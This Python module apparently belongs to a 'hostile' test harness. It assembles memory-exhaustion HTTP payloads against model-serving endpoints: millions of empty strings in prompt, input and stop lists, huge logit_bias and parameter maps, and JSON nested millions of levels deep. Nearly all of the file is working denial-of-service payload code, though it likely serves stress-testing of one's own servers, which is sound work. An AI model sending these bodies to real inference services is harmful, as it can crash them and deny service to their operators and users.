"""Bodies by HTTP of which each becomes much memory: lists of millions of empty strings, maps of many keys."""

from __future__ import annotations

from hostile.bomb_http import COMPLETIONS, bomb
from hostile.messages import LANGUAGE_MODEL, SCORE_TEXT, TEXTS, filled, noise
from hostile.target import main

PREDICT = f"/predict?model={TEXTS}"
NOISE = noise(116_000)  # a ratio a little below 100, as in bomb_http
MODEL = f'{{"model":"{LANGUAGE_MODEL}",'
STRINGS = 6_270_020  # bytes of 2,090,000 empty strings
KEYS = "{" + ",".join(f'"{key}":1' for key in range(772_683)) + "}"

CLIENTS = {
    "prompts": (3, bomb(COMPLETIONS, filled(MODEL + '"prompt":[""', ',""', "]}", STRINGS))),
    "inputs": (3, bomb(PREDICT, filled('{"inputs":[""', ',""', "]}", STRINGS))),
    "lists": (3, bomb(PREDICT, filled('{"inputs":[[""]', ',[""]', "]}", 3_450_000))),
    "stops": (3, bomb(COMPLETIONS, filled(MODEL + '"prompt":"a","stop":[""', ',""', "]}", STRINGS))),
    "biases": (2, bomb(COMPLETIONS, (MODEL + f'"prompt":"a","logit_bias":{KEYS}}}').encode())),
    "embeddings": (3, bomb("/v1/embeddings", filled(f'{{"model":"{TEXTS}","input":[""', ',""', "]}", STRINGS))),
    "OIP strings": (3, bomb("/v2/models/languages/infer", filled('{"inputs":[{"data":[""', ',""', "]}]}", STRINGS))),
    "OIP parameters": (2, bomb("/v2/models/enwiki/infer", f'{{"parameters":{KEYS}}}'.encode())),
    "Connect inputs": (2, bomb(SCORE_TEXT, filled('{"inputs":[{}', ",{}", "]}"))),
    "dense prompts": (3, bomb(COMPLETIONS, filled(f'{MODEL}"user":"{NOISE}","prompt":[""', ',""', "]}"))),
    "dense prompts of ids": (3, bomb(COMPLETIONS, filled(f'{MODEL}"user":"{NOISE}","prompt":[[1]', ",[1]", "]}"))),
    "1 MB of prompts": (8, bomb(COMPLETIONS, filled(MODEL + '"prompt":[""', ',""', "]}", 1 << 20))),
    "deep lists": (2, bomb(COMPLETIONS, b'{"prompt":' + b"[" * (8 << 20))),
    "deep objects": (2, bomb(SCORE_TEXT, b'{"model":' * 900_000)),
}

if __name__ == "__main__":
    main(__doc__, CLIENTS)
